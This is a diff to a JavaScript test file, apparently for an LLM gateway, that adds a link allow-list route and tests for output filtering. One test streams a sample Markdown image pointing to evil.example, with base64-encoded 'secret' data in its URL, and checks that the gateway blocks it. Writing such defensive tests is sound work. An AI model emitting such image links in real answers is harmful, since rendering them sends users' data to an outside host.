@@ -23,6 +23,15 @@ function inspecting(url) {
     if (['chat', 'messages'].includes(route.name)) route.content = { response: ['secrets'] };
   }
   config.models.watched = { ...config.models.small };
+  config.models.linked = { ...config.models.small };
+  const chat = config.routes.find((route) => route.name === 'chat');
+  config.routes.push({
+    ...chat,
+    name: 'linked',
+    models: ['linked'],
+    prompt: { ...chat.prompt, output_tokens: 20000, on_repeating_output: 'end' },
+    content: { response: ['links'], links: { allow: ['docs.example.com'] } },
+  });
   config.routes.push({
     ...config.routes.find((route) => route.name === 'chat'),
     name: 'watched',
@@ -163,6 +172,46 @@ describe('the OpenAI SDK', () => {
     assert.equal(watched.text, `${BEFORE}${SECRET}.`);
     assert.equal(watched.record.content[0].action, 'observe');
     assert.deepEqual(watched.record.decision.observed, ['routes.watched.content']);
+  });
+});
+
+describe('a chat that shows Markdown', () => {
+  const read = async (contents, more) => {
+    say = ({ response }) => {
+      beginStream(response);
+      for (const content of contents) response.write(chunk({ content }));
+      endStream(response);
+    };
+    const { data, response } = await client.chat.completions
+      .create(ask('linked', { stream: true, max_tokens: 10000, ...more }))
+      .withResponse();
+    let text = '';
+    let finish;
+    for await (const part of data) {
+      text += part.choices[0]?.delta.content ?? '';
+      finish = part.choices[0]?.finish_reason ?? finish;
+    }
+    return { text, finish, record: await outcome(response.headers) };
+  };
+
+  it('has no image that carries data out, and those of allowed hosts', async () => {
+    const address = 'https://evil.example/p.png?d=c2VjcmV0';
+    const ended = await read(pieces(`Done. ![x](${address}) More.`, 3));
+    assert.ok(ended.text.startsWith('Done. ![') && !ended.text.includes('http'), ended.text);
+    assert.equal(ended.finish, 'content_filter');
+    assert.equal(ended.record.content[0].rule, 'links.image');
+
+    const text = 'See ![x](https://docs.example.com/p.png?d=1) and [y](https://www.example.org/a).';
+    const passed = await read(pieces(text, 3));
+    assert.equal(passed.text, text);
+    assert.equal(passed.finish, 'stop');
+  });
+
+  it('has an end where the model repeats itself', async () => {
+    const { text, finish, record } = await read(Array.from({ length: 6000 }, () => 'and so on, '));
+    assert.equal(finish, 'length');
+    assert.equal(record.decision.code, 'repeating_output');
+    assert.ok(text.length > 8000 && text.length < 12000, `${text.length}`);
   });
 });
 
